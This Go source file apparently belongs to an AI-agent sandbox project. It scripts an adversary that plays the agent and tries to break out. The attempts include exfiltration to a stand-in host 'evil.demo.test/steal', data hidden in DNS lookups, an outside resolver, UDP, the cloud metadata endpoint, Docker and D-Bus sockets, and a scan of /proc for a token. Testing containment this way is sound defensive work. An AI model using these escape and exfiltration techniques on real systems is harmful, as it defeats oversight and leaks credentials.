// Package demo is the self-contained show: stand-in upstreams, a bottle's manifests, and a
// scripted adversary that runs as the agent and tries to get out.
//
// Its one rule: what it reports was tried for real, and every attempt that can be seen from
// outside is judged outside, not by the adversary's own word.
package demo

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

// The world of the demo.
const (
	AllowedHost = "api.demo.test"
	DeniedHost  = "evil.demo.test"
	OutsideIP   = "203.0.113.7" // TEST-NET-3, RFC 5737
	MetadataIP  = "169.254.169.254"
)

// Targets tell the adversary what it should try to reach; all of it is known to any agent that
// has read this file.
type Targets struct {
	HomeFile string   `json:"home_file"` // a file in the caller's home
	Sockets  []string `json:"sockets"`   // control sockets on the host
}

// Attempt is what came of one try.
type Attempt struct {
	Name string `json:"name"`
	// Reached is true when the try got what it wanted.
	Reached bool   `json:"reached"`
	How     string `json:"how"`
}

// Adversary runs inside the bottle and returns its exit code. Its one argument is Targets as JSON;
// its answer on stdout is one Attempt a line.
func Adversary(args []string) int {
	var t Targets
	if len(args) == 0 || json.Unmarshal([]byte(args[len(args)-1]), &t) != nil {
		fmt.Fprintln(os.Stderr, "adversary: want its targets as JSON")
		return 2
	}
	out := json.NewEncoder(os.Stdout)
	for _, try := range tries(t) {
		reached, how := try.do()
		if err := out.Encode(Attempt{Name: try.name, Reached: reached, How: how}); err != nil {
			return 1
		}
	}
	return 0
}

// Names of the attempts, in their order.
const (
	TryAllowed  = "allowed call"
	TryDenied   = "denied host"
	TryProxied  = "denied host through the proxy"
	TryIP       = "address without a name"
	TryDNS      = "data in a DNS lookup"
	TryResolver = "a resolver outside"
	TryUDP      = "UDP packet"
	TryMetadata = "cloud metadata"
	TryHome     = "the host's home"
	TryControl  = "the control sockets"
	TryToken    = "the real token"
	TryRoot     = "a namespace of its own"
)

type try struct {
	name string
	do   func() (bool, string)
}

func tries(t Targets) []try {
	return []try{
		{TryAllowed, func() (bool, string) { return get("https://"+AllowedHost+"/v1/me", nil) }},
		{TryDenied, func() (bool, string) { return get("https://"+DeniedHost+"/steal", nil) }},
		{TryProxied, func() (bool, string) { return get("https://"+DeniedHost+"/steal", http.ProxyFromEnvironment) }},
		{TryIP, func() (bool, string) { return get("https://"+OutsideIP+"/steal", nil) }},
		{TryDNS, func() (bool, string) { return lookup(net.DefaultResolver, "c2VjcmV0LWRhdGE.exfil."+DeniedHost) }},
		{TryResolver, func() (bool, string) { return lookup(outside(), AllowedHost+"."+DeniedHost) }},
		{TryUDP, udp},
		{TryMetadata, func() (bool, string) { return get("http://"+MetadataIP+"/latest/meta-data/", nil) }},
		{TryHome, func() (bool, string) { return read(t.HomeFile) }},
		{TryControl, func() (bool, string) { return sockets(t.Sockets) }},
		{TryToken, token},
		{TryRoot, namespace},
	}
}

const patience = 3 * time.Second

// get tries a URL; reached means an answer that did not come from the sidecar itself.
func get(target string, proxy func(*http.Request) (*url.URL, error)) (bool, string) {
	transport := &http.Transport{Proxy: proxy, DisableKeepAlives: true}
	if strings.Contains(target, OutsideIP) {
		transport.TLSClientConfig = &tls.Config{InsecureSkipVerify: true} //nolint:gosec // an adversary does not mind who answers
	}
	client := &http.Client{Timeout: patience, Transport: transport}
	res, err := client.Get(target) //nolint:noctx // the client has its timeout
	if err != nil {
		return false, short(err)
	}
	defer func() { _ = res.Body.Close() }()
	body, _ := io.ReadAll(io.LimitReader(res.Body, 4<<10))
	var refusal struct {
		Layer       string `json:"layer"`
		RuleMissing string `json:"rule_missing"`
	}
	if json.Unmarshal(body, &refusal) == nil && refusal.Layer != "" {
		return false, fmt.Sprintf("%d from the sidecar: %s", res.StatusCode, refusal.RuleMissing)
	}
	return res.StatusCode < 400, fmt.Sprintf("%d %s", res.StatusCode, strings.TrimSpace(string(body)))
}

func lookup(r *net.Resolver, name string) (bool, string) {
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	addrs, err := r.LookupHost(ctx, name)
	if err != nil {
		return false, short(err)
	}
	return true, strings.Join(addrs, " ")
}

// outside is a resolver that goes straight to an address on the internet.
func outside() *net.Resolver {
	return &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		return new(net.Dialer).DialContext(ctx, network, "8.8.8.8:53")
	}}
}

// udp sends a packet and waits for what the kernel says about it.
func udp() (bool, string) {
	c, err := net.Dial("udp", net.JoinHostPort(OutsideIP, "9999")) //nolint:noctx // UDP does not wait
	if err != nil {
		return false, short(err)
	}
	defer func() { _ = c.Close() }()
	if err := c.SetDeadline(time.Now().Add(patience)); err != nil {
		return false, short(err)
	}
	if _, err := c.Write([]byte("secret")); err != nil {
		return false, short(err)
	}
	_, err = c.Read(make([]byte, 1))
	if errors.Is(err, syscall.ECONNREFUSED) {
		return false, "rejected at once"
	}
	return true, "not rejected: " + short(err)
}

func read(path string) (bool, string) {
	if _, err := os.ReadFile(path); err != nil {
		return false, short(err)
	}
	return true, "read " + path
}

func sockets(paths []string) (bool, string) {
	for _, p := range append(paths, "/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket") {
		dialer := net.Dialer{Timeout: patience}
		c, err := dialer.DialContext(context.Background(), "unix", p)
		if err == nil {
			_ = c.Close()
			return true, "connected to " + p
		}
	}
	return false, "none of them exists here"
}

// token looks for anything that could be the credential in every place a process can look.
func token() (bool, string) {
	const mark = "demo-real-" // how the demo's token begins
	for _, e := range os.Environ() {
		if strings.Contains(e, mark) {
			return true, "in the environment"
		}
	}
	files, _ := filepath.Glob("/proc/[0-9]*/environ")
	more, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	looked := 0
	for _, f := range append(files, more...) {
		raw, err := os.ReadFile(f)
		if err == nil && strings.Contains(string(raw), mark) {
			return true, "in " + f
		}
		if err == nil {
			looked++
		}
	}
	return false, fmt.Sprintf("not in the environment, nor in the %d readable of %d places of /proc", looked, len(files)+len(more))
}

// short is the last part of an error, which says why.
func short(err error) string {
	if err == nil {
		return "no error"
	}
	if ue := (*url.Error)(nil); errors.As(err, &ue) && ue.Err.Error() == "" {
		return "refused by the proxy" // it gave a status, and no words
	}
	text := strings.TrimRight(err.Error(), ": \n")
	if i := strings.LastIndex(text, ": "); i >= 0 {
		text = text[i+2:]
	}
	return text
}
